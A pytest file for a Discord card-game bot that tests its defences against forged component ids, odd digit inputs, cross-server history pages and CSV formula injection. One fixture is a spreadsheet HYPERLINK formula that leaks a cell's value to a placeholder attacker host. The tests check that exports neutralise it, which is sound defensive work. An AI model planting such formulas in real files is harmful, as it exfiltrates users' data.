"""Forged and hostile input (issue #32 items 3 to 6), through the real bot on simcord.

A hostile player cannot put a component on a message, but an id can travel (an old message, a
modified client): as in ``tests/bot/test_trust_ids.py``, the bot itself posts the forged component
(or adds it to the message it is aimed at) and the hostile player clicks it. Each click must be
answered in a sentence to the clicker alone, must edit no message it does not belong to, and no
ERROR may be logged (the ``no_error_logs`` fixture).
"""

from __future__ import annotations

import csv
import io
from typing import Any

import discord
import pytest

from bot.ui.components import hand_view, lobby_view
from bot.ui.provenance import NotThisMessage
from tests.bot.afrika_tables import lobby_message
from tests.bot.table import custom_ids, game_thread, last_reply, make_table, move_ids, panel_message
from tests.bot.test_ratings import against_the_ai, challenge
from tests.bot.test_trust_ids import FORGED, _click

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for prizes")'


# ------------------------------------------------------------------ item 3: CSV formulas


async def test_an_opponents_formula_name_is_text_in_the_export(simcord_env) -> None:
    """Mallory names herself with a formula and plays Alice; Alice's export keeps it as text."""
    env = simcord_env
    t = make_table(env, ("alice", HYPERLINK, "-12"))
    t.members["mallory"] = t.members[HYPERLINK]
    t.members["minus"] = t.members["-12"]
    await challenge(env, t, "alice", "mallory", loser="mallory")
    await challenge(env, t, "minus", "alice", loser="alice")
    result = await t.members["alice"].slash(t.channel, "history", export=True)
    files = {a.filename: await a.read() for a in last_reply(result).attachments}
    data = files[f"cardhost-matches-{t.members['alice'].id}.csv"].decode()
    rows = list(csv.DictReader(io.StringIO(data)))
    assert [r["opponents"] for r in rows] == ["'-12", "'" + HYPERLINK]
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
    for row in rows:  # our numbers stay numbers (a rating change may be negative, or the game unrated)
        assert int(row["match_id"]) > 0 and int(row["players"]) == 2
        assert row["rating_change"] == "" or int(row["rating_change"]) != 0


# ------------------------------------------------------------------ item 6: digits and empty menus


async def _post_select(env: Any, channel: Any, custom_id: str, value: str) -> Any:
    """A message by the bot with one select ``custom_id`` offering ``value`` (a forged menu)."""
    view = discord.ui.View(timeout=None)
    view.add_item(
        discord.ui.Select(custom_id=custom_id, options=[discord.SelectOption(label="x", value=value)])
    )
    return await env.bot.get_channel(channel.id).send(FORGED, view=view)


async def _choose(env: Any, member: Any, channel: Any, custom_id: str, value: str) -> str:
    """Post the forged menu, choose ``value`` as ``member``; the sentence the bot answered."""
    message = await _post_select(env, channel, custom_id, value)
    result = await member.select(message, [value], custom_id=custom_id)
    await env.settle()
    said = [f.content for f in result.followups] or [last_reply(result).content]
    assert result.acknowledged and said[-1].strip() and said[-1] != FORGED, f"{custom_id!r} unanswered"
    return str(said[-1])


ON_OUR_SIDE = "Something went wrong"


def _lobby_id(lobby: Any) -> int:
    """The id in a lobby message's buttons ("lb:<id>:join")."""
    return int(next(i for i in custom_ids(lobby) if i.startswith("lb:")).split(":")[1])


async def test_a_group_menu_value_in_other_digits_is_a_sentence(simcord_env) -> None:
    env = simcord_env
    t = make_table(env)
    alice, carol = t.members["alice"], t.members["carol"]
    await alice.slash(t.channel, "play afrika")
    live = await env.bot.matches.get(max(env.bot.matches._cache))
    for value in ("²", "٣", "¹²"):
        said = await _choose(env, carol, t.channel, f"mg:{live.id}:{live.seq}:0", value)
        assert ON_OUR_SIDE not in said and "not" in said and "game" in said, said
        said = await _choose(env, alice, t.channel, f"mg:{live.id}:{live.seq}:0", value)
        assert ON_OUR_SIDE not in said, said


async def test_a_puzzle_group_menu_value_in_other_digits_is_a_sentence(simcord_env) -> None:
    env = simcord_env
    t = make_table(env)
    for value in ("²", "٣"):
        said = await _choose(env, t.members["bob"], t.channel, "pzg:424242:0", value)
        assert ON_OUR_SIDE not in said, said


async def test_the_stops_menu_of_a_game_without_stops_is_a_sentence(simcord_env) -> None:
    env = simcord_env
    t = make_table(env)
    alice = t.members["alice"]
    said = await _choose(env, alice, t.channel, "stops:chrono", "x")
    assert said == "Epochs Chrono has no steps to stop at: nothing to choose.", said
    assert await env.bot.db.players.get_settings(alice.id) == {}


async def test_a_lobby_deck_value_in_other_digits_is_a_sentence(simcord_env) -> None:
    """A seated player of a Star Lords lobby chooses the saved deck "#²": no such deck, in words."""
    env = simcord_env
    t = make_table(env)
    alice = t.members["alice"]
    await alice.slash(t.channel, "play afrika", variant="starlords", seats=3)
    lobby_id = _lobby_id(lobby_message(t))
    for value in ("d:²", "d:٣", "d:" + "9" * 30):
        said = await _choose(env, alice, t.channel, f"ld:{lobby_id}", value)
        assert said == "I don't know that deck: choose one from the menu.", said


# ------------------------------------------------------------------ item 4: history pages keep their server

IN_A_DM = "Match history is kept per server: use /history in that server's channel."
ELSEWHERE = "These pages belong to another server: use /history here for this one."


async def _dm_with(env: Any, member: Any, custom_id: str) -> Any:
    """A direct message from the bot to ``member`` carrying one button ``custom_id``."""
    view = discord.ui.View(timeout=None)
    view.add_item(discord.ui.Button(label="Forged", custom_id=custom_id))
    user = env.bot.get_user(member.id) or await env.bot.fetch_user(member.id)
    return await user.send(FORGED, view=view)


async def test_a_history_page_clicked_in_a_direct_message_shows_nothing(simcord_env) -> None:
    """Carol forges pages of Alice's history (and her own) in her DMs: no server, no matches."""
    env = simcord_env
    t = make_table(env)
    alice, carol = t.members["alice"], t.members["carol"]
    await challenge(env, t, "alice", "bob", loser="bob")
    await challenge(env, t, "carol", "bob", loser="carol")
    g = t.guild.id
    for member, custom_id in [
        (carol, f"hist:{carol.id}:{alice.id}::0:n"),  # as pages were posted before the server was carried
        (carol, f"hist:{g}:{carol.id}:{alice.id}::0:n"),
        (carol, f"hist:{carol.id}:{carol.id}:afrika:0:p"),
        (alice, f"hist:{g}:{alice.id}:{alice.id}::0:n"),  # her own page, opened on the server
    ]:
        message = await _dm_with(env, member, custom_id)
        result = await member.user.click(message, custom_id=custom_id)
        reply = last_reply(result)
        assert reply.content == IN_A_DM and reply.ephemeral, (custom_id, reply.content)
        shown = [m.content for m in member.user.dm_channel.history()]
        assert FORGED in shown and not any("matches" in c for c in shown), shown


async def test_a_history_page_of_one_server_is_refused_on_another(simcord_env) -> None:
    env = simcord_env
    t = make_table(env)
    alice = t.members["alice"]
    await challenge(env, t, "alice", "bob", loser="bob")
    elsewhere = env.create_guild("Elsewhere")
    lounge = elsewhere.create_text_channel("lounge")
    there = elsewhere.add_member(alice.user)
    said = await _click(env, there, lounge, f"hist:{t.guild.id}:{alice.id}:{alice.id}::0:n")
    assert said == ELSEWHERE
    # the pages of the server the page was opened in still turn there (and a new page carries it)
    said = await _click(env, alice, t.channel, f"hist:{t.guild.id}:{alice.id}:{alice.id}::0:n")
    assert said.startswith("📜 **alice's matches** on this server · 1 match"), said
    # with no server in the id (an older page), a page shows the server it is clicked in
    said = await _click(env, there, lounge, f"hist:{alice.id}:{alice.id}::0:n")
    assert said == "alice has no ended matches on this server yet.", said


# ------------------------------------------------------------------ item 5: a click edits only its own message

NOT_THIS = str(NotThisMessage())


async def _add_forged(env: Any, message: Any, keep: discord.ui.View, custom_id: str, *, select: bool) -> None:
    """The bot adds a forged component to one of its messages, keeping the components it has."""
    if select:
        keep.add_item(
            discord.ui.Select(custom_id=custom_id, options=[discord.SelectOption(label="x", value="x")])
        )
    else:
        keep.add_item(discord.ui.Button(label="Forged", custom_id=custom_id))
    channel = env.bot.get_channel(message.channel.id)
    await channel.get_partial_message(message.id).edit(view=keep)


def _now(channel: Any, message_id: int) -> Any:
    return next(m for m in channel.history() if m.id == message_id)


FOREIGN_ON_A_LOBBY = [
    "rp:{match}:1:n",  # a replay step: the lobby became a replay frame
    "hist:{me}:{me}::0:n",  # a history page: the lobby became the clicker's history
    "deckdel:1:{me}:no",  # a deck's Keep: the lobby became "Nothing was deleted."
    "stops:afrika",  # the stops menu: the lobby became the clicker's settings
]


@pytest.mark.parametrize("forged", FOREIGN_ON_A_LOBBY, ids=[f.split(":")[0] for f in FOREIGN_ON_A_LOBBY])
async def test_a_spectators_forged_click_leaves_an_open_lobby_alone(simcord_env, forged: str) -> None:
    env = simcord_env
    t = make_table(env)
    bob, carol = t.members["bob"], t.members["carol"]
    ended = await against_the_ai(env, t, "alice")
    await bob.slash(t.channel, "play chrono", seats=2)
    lobby = lobby_message(t)
    before = (lobby.embeds[0].to_dict(), custom_ids(lobby))
    custom_id = forged.format(match=ended.id, me=carol.id)
    select = custom_id.startswith("stops:")
    await _add_forged(env, lobby, lobby_view(_lobby_id(lobby)), custom_id, select=select)
    if select:
        result = await carol.select(_now(t.channel, lobby.id), ["x"], custom_id=custom_id)
    else:
        result = await carol.click(_now(t.channel, lobby.id), custom_id=custom_id)
    await env.settle()
    reply = last_reply(result)
    assert reply.content == NOT_THIS and reply.ephemeral, reply.content
    after = _now(t.channel, lobby.id)
    assert after.embeds and after.embeds[0].to_dict() == before[0], "the lobby is still the lobby"
    assert [i for i in custom_ids(after) if i != custom_id] == before[1], "Join and Start are still there"
    assert not after.attachments
    assert await env.bot.db.players.get_settings(carol.id) == {}


async def test_a_players_forged_move_or_page_leaves_the_public_board_alone(simcord_env) -> None:
    """Alice copies her panel's buttons onto the board: her hand must not replace the board."""
    env = simcord_env
    t = make_table(env)
    alice = t.members["alice"]
    await alice.slash(t.channel, "play afrika")
    live = await env.bot.matches.get(max(env.bot.matches._cache))
    thread = game_thread(t)
    board = next(m for m in reversed(thread.history()) if f"hand:{live.id}" in custom_ids(m))
    shown = (board.content, [a.filename for a in board.attachments])
    move = move_ids(panel_message(alice, live.id))[0]
    seq = live.seq
    for custom_id in (f"mp:{live.id}:{seq}:0:^", f"mp:{live.id}:{seq}:1:>", move):
        await _add_forged(env, board, hand_view(live.id), custom_id, select=False)
        result = await alice.click(_now(thread, board.id), custom_id=custom_id)
        await env.settle()
        reply = last_reply(result)
        assert reply.content == NOT_THIS and reply.ephemeral, (custom_id, reply.content)
        now = _now(thread, board.id)
        assert (now.content, [a.filename for a in now.attachments]) == shown, custom_id
        assert f"hand:{live.id}" in custom_ids(now)
        assert live.seq == seq, "the forged move was not played"
    # the same buttons on her own panel still work
    panel = panel_message(alice, live.id)
    result = await alice.user.click(panel, custom_id=move)
    assert live.seq > seq


ANSWERS_THE_CLICKER_ONLY = {
    # These send a new message (ephemeral, a DM, a modal) and never edit the one clicked.
    "WatchReplayButton",
    "HandButton",
    "CardDetailsSelect",
    "ReclaimSeatButton",
    "LobbyDeckSelect",  # the lobby's own message is edited by its stored id
    "OpenPackButton",
    "ReclaimButton",
    "OpenBuilderButton",
    "OpenSideButton",
    "ResumeButton",  # a paused pod's Resume answers ephemerally; the pause notice is edited by id
}


def test_every_component_that_edits_its_message_checks_the_message() -> None:
    """A new component that edits the message it arrived on must ask ``require_own_message``
    (directly, or through the puzzle panel's ``on_moves`` / ``on_page``, which do)."""
    import inspect

    from bot.ui import puzzle
    from bot.ui.registry import ROUTED

    checked_helpers = [f.__name__ for f in (puzzle.on_moves, puzzle.on_page)]
    for helper in (puzzle.on_moves, puzzle.on_page):
        assert "require_own_message(" in inspect.getsource(helper)
    bare = []
    for item in ROUTED:
        if item.__name__ in ANSWERS_THE_CLICKER_ONLY:
            continue
        source = inspect.getsource(inspect.unwrap(item.callback))
        if "require_own_message(" not in source and not any(f"{h}(" in source for h in checked_helpers):
            bare.append(item.__name__)
    assert not bare, f"components that may edit a message they are not on: {bare}"
